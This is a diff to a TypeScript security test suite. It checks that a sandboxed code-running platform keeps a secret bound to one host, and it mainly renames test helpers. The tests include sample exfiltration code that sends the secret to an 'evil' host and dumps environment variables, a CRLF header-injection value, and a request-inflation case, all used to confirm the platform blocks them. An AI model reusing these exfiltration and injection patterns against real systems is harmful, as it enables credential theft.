@@ -1,8 +1,12 @@
 import { afterAll, expect } from "bun:test"
 import { readdirSync, readFileSync } from "node:fs"
 import { join } from "node:path"
+import type { TestUser } from "../support/api.ts"
 import { createAuthority } from "../support/certificates.ts"
 import { notRun } from "../support/databases.ts"
+import type { AttackServer } from "./support/attack-server.ts"
+import { describeAttacks, probe } from "./support/describe-attacks.ts"
+import { createEvalVal, type EvalVal } from "./support/eval-val.ts"
 import { findInMemory } from "./support/memory.ts"
 import {
   type OutsideRequest,
@@ -10,9 +14,6 @@ import {
   toRawUrl,
   toRedirect,
 } from "./support/outside-server.ts"
-import { createPuppet, type Puppet } from "./support/puppet.ts"
-import { describeVillage, probe } from "./support/test-village.ts"
-import type { Village, Villager } from "./support/village.ts"
 
 const value = "sk-live-only-for-one-host-4711"
 const secureValue = "sk-live-only-with-encryption-0815"
@@ -201,22 +202,22 @@ const toText = (request: OutsideRequest) => {
   ].join("\n")
 }
 
-describeVillage("what is tried to get at a secret that is for one host", env, (village) => {
-  let opened: Promise<{ readonly carol: Villager; readonly puppet: Puppet }> | undefined
+describeAttacks("what is tried to get at a secret that is for one host", env, (getServer) => {
+  let opened: Promise<{ readonly carol: TestUser; readonly evalVal: EvalVal }> | undefined
   const open = () => {
-    opened ??= settle(village())
+    opened ??= settle(getServer())
     return opened
   }
 
   for (const { tries, code, denied } of thefts)
-    probe(village, `a val tries to send it to ${tries}`, async () => {
-      const { puppet } = await open()
+    probe(getServer, `a val tries to send it to ${tries}`, async () => {
+      const { evalVal } = await open()
       const mark = `mark${++count}.`
-      const deed = await puppet.act(
+      const result = await evalVal.evaluate(
         `const [key, mark] = [Deno.env.get("KEY"), "${mark}"]; ${code}; return key`,
       )
-      if (denied) expect(deed.denied).toMatch(denied)
-      else expect(deed.got ?? deed.denied).toBe(placeholder)
+      if (denied) expect(result.denied).toMatch(denied)
+      else expect(result.got ?? result.denied).toBe(placeholder)
       const seen = seenIn(mark)
       expect(seen.length).toBe(denied ? 0 : 1)
       for (const request of seen) {
@@ -227,10 +228,10 @@ describeVillage("what is tried to get at a secret that is for one host", env, (v
     })
 
   probe(
-    village,
+    getServer,
     "the right host gets it, however it is written, so that the others have not failed for another reason",
     async () => {
-      const { puppet } = await open()
+      const { evalVal } = await open()
       for (const name of [
         right,
         right.toUpperCase(),
@@ -239,7 +240,7 @@ describeVillage("what is tried to get at a secret that is for one host", env, (v
         `ａｐｉ.localhost:${host.port}`,
       ]) {
         const mark = `mark${++count}.`
-        await puppet.act(
+        await evalVal.evaluate(
           `const [key, mark] = [Deno.env.get("KEY"), "${mark}"]; ${send(name, asHeader)}; ${send(name, asBasic)}`,
         )
         const texts = seenIn(mark).map(toText)
@@ -248,16 +249,16 @@ describeVillage("what is tried to get at a secret that is for one host", env, (v
     },
   )
 
-  probe(village, "a val of somebody else sends the same placeholder", async (place) => {
-    const puppet = await createPuppet(place, place.mallory)
-    await puppet.act(
+  probe(getServer, "a val of somebody else sends the same placeholder", async (server) => {
+    const evalVal = await createEvalVal(server, server.mallory)
+    await evalVal.evaluate(
       `const [key, mark] = ["${placeholder}", "mallory1."]; ${send(right, asHeader)}; ${send(right, asBasic)}`,
     )
-    await place.call("PUT", "/v1/me/secrets/KEY", {
-      as: place.mallory,
+    await server.call("PUT", "/v1/me/secrets/KEY", {
+      as: server.mallory,
       body: { value: "of-mallory", hosts: [right] },
     })
-    await puppet.act(
+    await evalVal.evaluate(
       `const [key, mark] = [Deno.env.get("KEY"), "mallory2."]; ${send(right, asHeader)}`,
     )
     expect(host.seen("mallory1.").length).toBe(2)
@@ -265,59 +266,67 @@ describeVillage("what is tried to get at a secret that is for one host", env, (v
     for (const request of host.seen("mallory")) expect(toText(request)).not.toContain(value)
   })
 
-  probe(village, "a val of somebody else is run by the one whose secret it is", async (place) => {
-    const { carol } = await open()
-    const val = await place.save(place.mallory, {
-      code: `export default async function run() { const [key, mark] = ["${placeholder}", "borrowed."]; ${send(right, asHeader)}; return Deno.env.get("KEY") ?? "none" }`,
-      type: "script",
-      privacy: "public",
-    })
-    expect(await place.run(val, [], carol)).toMatchObject({
-      status: "succeeded",
-      returnValue: "none",
-    })
-    expect(host.seen("borrowed.").length).toBe(1)
-    for (const request of host.seen("borrowed.")) expect(toText(request)).not.toContain(value)
-  })
+  probe(
+    getServer,
+    "a val of somebody else is run by the one whose secret it is",
+    async (server) => {
+      const { carol } = await open()
+      const val = await server.save(server.mallory, {
+        code: `export default async function run() { const [key, mark] = ["${placeholder}", "borrowed."]; ${send(right, asHeader)}; return Deno.env.get("KEY") ?? "none" }`,
+        type: "script",
+        privacy: "public",
+      })
+      expect(await server.run(val, [], carol)).toMatchObject({
+        status: "succeeded",
+        returnValue: "none",
+      })
+      expect(host.seen("borrowed.").length).toBe(1)
+      for (const request of host.seen("borrowed.")) expect(toText(request)).not.toContain(value)
+    },
+  )
 
-  probe(village, "a val is run by somebody else than the one whose secret it is", async (place) => {
-    const { carol } = await open()
-    const val = await place.save(carol, {
-      code: `export default async function run(mark) { const key = "${placeholder}"; ${send(right, asHeader)}; return Deno.env.has("KEY") }`,
-      type: "script",
-      privacy: "public",
-    })
-    expect(await place.run(val, ["lent-to-mallory."], place.mallory)).toMatchObject({
-      status: "succeeded",
-      returnValue: false,
-    })
-    expect(await place.run(val, ["own-run."], carol)).toMatchObject({
-      status: "succeeded",
-      returnValue: true,
-    })
-    expect(host.seen("lent-to-mallory.").map(toText).join()).not.toContain(value)
-    expect(host.seen("own-run.").map(toText).join()).toContain(value)
-  })
+  probe(
+    getServer,
+    "a val is run by somebody else than the one whose secret it is",
+    async (server) => {
+      const { carol } = await open()
+      const val = await server.save(carol, {
+        code: `export default async function run(mark) { const key = "${placeholder}"; ${send(right, asHeader)}; return Deno.env.has("KEY") }`,
+        type: "script",
+        privacy: "public",
+      })
+      expect(await server.run(val, ["lent-to-mallory."], server.mallory)).toMatchObject({
+        status: "succeeded",
+        returnValue: false,
+      })
+      expect(await server.run(val, ["own-run."], carol)).toMatchObject({
+        status: "succeeded",
+        returnValue: true,
+      })
+      expect(host.seen("lent-to-mallory.").map(toText).join()).not.toContain(value)
+      expect(host.seen("own-run.").map(toText).join()).toContain(value)
+    },
+  )
 
-  probe(village, "a module of somebody else is imported by a val that has it", async (place) => {
+  probe(getServer, "a module of somebody else is imported by a val that has it", async (server) => {
     const { carol } = await open()
-    const module = await place.save(place.mallory, {
+    const module = await server.save(server.mallory, {
       code: `const [key, mark] = [Deno.env.get("KEY"), "imported."]; ${send(evil, asHeader)}; export const seen = JSON.stringify(Deno.env.toObject())`,
       privacy: "public",
       type: "script",
     })
-    const val = await place.save(carol, {
-      code: `import { seen } from "${place.baseUrl}/v/mallory/${module.name}"; export default () => new Response(seen)`,
+    const val = await server.save(carol, {
+      code: `import { seen } from "${server.baseUrl}/v/mallory/${module.name}"; export default () => new Response(seen)`,
     })
-    const { status, text } = await place.visit(val)
+    const { status, text } = await server.request(val)
     expect([status, text]).toEqual([200, expect.stringContaining(placeholder)])
     expect(text + other.seen("imported.").map(toText).join()).not.toContain(value)
     expect(other.seen("imported.").length).toBe(1)
   })
 
-  probe(village, "its host tells it back, and the record of the run hides it", async (place) => {
+  probe(getServer, "its host tells it back, and the record of the run hides it", async (server) => {
     const { carol } = await open()
-    const val = await place.save(carol, {
+    const val = await server.save(carol, {
       code: `export default async function () {
   const told = await (await fetch("http://${right}/echo?" + Deno.env.get("KEY"), { headers: { "x-api-key": Deno.env.get("KEY") } })).text()
   console.log(told)
@@ -326,33 +335,33 @@ describeVillage("what is tried to get at a secret that is for one host", env, (v
   throw new Error("it said " + told)
 }`,
     })
-    const answer = await place.visit(val)
-    const run = await place.loggedRun(answer.headers.get("x-run-id") ?? "", carol, 3)
+    const response = await server.request(val)
+    const run = await server.loggedRun(response.headers.get("x-run-id") ?? "", carol, 3)
     expect(host.seen("/echo").map(toText).join()).toContain(value)
     expect([run.status, run.error.message]).toEqual([
       "failed",
       expect.stringContaining("[secret KEY]"),
     ])
     expect(JSON.stringify(run)).not.toContain(value)
-    expect(answer.text).not.toContain(value)
+    expect(response.text).not.toContain(value)
   })
 
-  probe(village, "a value would begin another header", async (place) => {
-    const dora = await place.addVillager("dora")
-    const saved = await place.call("PUT", "/v1/me/secrets/KEY", {
+  probe(getServer, "a value would begin another header", async (server) => {
+    const dora = await server.addUser("dora")
+    const saved = await server.call("PUT", "/v1/me/secrets/KEY", {
       as: dora,
       body: { value: "x\r\nx-forged: 1\r\n\r\nGET /smuggled HTTP/1.1", hosts: [right] },
     })
     if (saved.status < 300) {
-      const puppet = await createPuppet(place, dora)
-      const { runId } = await puppet.act(
+      const evalVal = await createEvalVal(server, dora)
+      const { runId } = await evalVal.evaluate(
         `const [key, mark] = [Deno.env.get("KEY"), "split."]; ${send(right, asHeader)}; ${send(right, asBasic)}`,
       )
       expect(host.seen("split.").length).toBe(2)
       expect(
         host.seen("split.").filter(({ headers }) => headers.some(([name]) => name === "x-forged")),
       ).toEqual([])
-      expect(JSON.stringify((await place.endedRun(runId, dora)).logs)).toContain(
+      expect(JSON.stringify((await server.endedRun(runId, dora)).logs)).toContain(
         "characters that cannot be sent in a header",
       )
     }
@@ -361,16 +370,16 @@ describeVillage("what is tried to get at a secret that is for one host", env, (v
   })
 
   probe(
-    village,
+    getServer,
     "a request would become as large as its value times the placeholders in it",
-    async (place) => {
-      const emil = await place.addVillager("emil")
-      await place.call("PUT", "/v1/me/secrets/KEY", {
+    async (server) => {
+      const emil = await server.addUser("emil")
+      await server.call("PUT", "/v1/me/secrets/KEY", {
         as: emil,
         body: { value: "v".repeat(30_000), hosts: [right] },
       })
-      const puppet = await createPuppet(place, emil)
-      await puppet.act(
+      const evalVal = await createEvalVal(server, emil)
+      await evalVal.evaluate(
         `const [key, mark] = [Deno.env.get("KEY"), "grown."]; ${send(right, "{ headers: { x: key.repeat(1000) } }")}`,
       )
       expect(host.seen("grown.").length).toBe(1)
@@ -378,17 +387,20 @@ describeVillage("what is tried to get at a secret that is for one host", env, (v
     },
   )
 
-  probe(village, "the API tells it to nobody, not even to its owner", async (place) => {
-    const { carol, puppet } = await open()
-    const { got } = await puppet.act(
+  probe(getServer, "the API tells it to nobody, not even to its owner", async (server) => {
+    const { carol, evalVal } = await open()
+    const { got } = await evalVal.evaluate(
       `const headers = { authorization: "Bearer " + Deno.env.get("HAMLET_TOKEN") }
        const paths = ["/v1/me", "/v1/me/secrets", "/v1/me/secrets/KEY", "/v1/me/runs", "/v1/me/usage"]
        return (await Promise.all(paths.map(async (path) => (await fetch(Deno.env.get("HAMLET_URL") + path, { headers })).text()))).join("\\n")`,
     )
     const texts = await Promise.all(
-      ["/v1/me/secrets", "/v1/me/secrets/KEY", "/v1/me/runs", `/v1/vals/${puppet.val.id}/runs`].map(
-        async (path) => (await place.call("GET", path, { as: carol })).text,
-      ),
+      [
+        "/v1/me/secrets",
+        "/v1/me/secrets/KEY",
+        "/v1/me/runs",
+        `/v1/vals/${evalVal.val.id}/runs`,
+      ].map(async (path) => (await server.call("GET", path, { as: carol })).text),
     )
     expect(`${got}${texts.join()}`).not.toContain(value)
     expect(texts.join()).toContain('"KEY"')
@@ -401,16 +413,16 @@ describeVillage("what is tried to get at a secret that is for one host", env, (v
     )
   else
     probe(
-      village,
+      getServer,
       "somebody looks for it in all of the sandbox: memory, environment, files",
-      async (place) => {
+      async (server) => {
         const { carol } = await open()
-        const val = await place.save(carol, {
+        const val = await server.save(carol, {
           code: `const key = Deno.env.get("KEY"); export default async function () { const mark = "quiet."; ${send(right, asHeader)}; return "sent" }`,
         })
-        expect((await place.visit(val)).text).toBe("sent")
+        expect((await server.request(val)).text).toBe("sent")
         expect(host.seen("quiet.").map(toText).join()).toContain(value)
-        const { guest, folder } = await place.sandboxOf(val)
+        const { guest, folder } = await server.sandboxOf(val)
         expect(findInMemory(guest.pid, [placeholder, value])).toEqual([placeholder])
         const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter(
           (entry) => entry.isFile(),
@@ -423,20 +435,20 @@ describeVillage("what is tried to get at a secret that is for one host", env, (v
       },
     )
 
-  probe(village, "the server has not logged it", async (place) =>
-    expect(place.hamlet.stdout + place.hamlet.stderr).not.toContain(value),
+  probe(getServer, "the server has not logged it", async (server) =>
+    expect(server.hamlet.stdout + server.hamlet.stderr).not.toContain(value),
   )
 })
 
 async function settle(
-  place: Village,
-): Promise<{ readonly carol: Villager; readonly puppet: Puppet }> {
-  const carol = await place.addVillager("carol")
+  server: AttackServer,
+): Promise<{ readonly carol: TestUser; readonly evalVal: EvalVal }> {
+  const carol = await server.addUser("carol")
   const put = (name: string, body: object) =>
-    place.call("PUT", `/v1/me/secrets/${name}`, { as: carol, body })
+    server.call("PUT", `/v1/me/secrets/${name}`, { as: carol, body })
   const saved = await put("KEY", { value, hosts: [right] })
   expect(saved.status).toBeLessThan(300)
   await put("SECURE_KEY", { value: secureValue, hosts: [`api.localhost:${secure.port}`] })
   await put("NESTED", { value: placeholder, hosts: [evil] })
-  return { carol, puppet: await createPuppet(place, carol) }
+  return { carol, evalVal: await createEvalVal(server, carol) }
 }
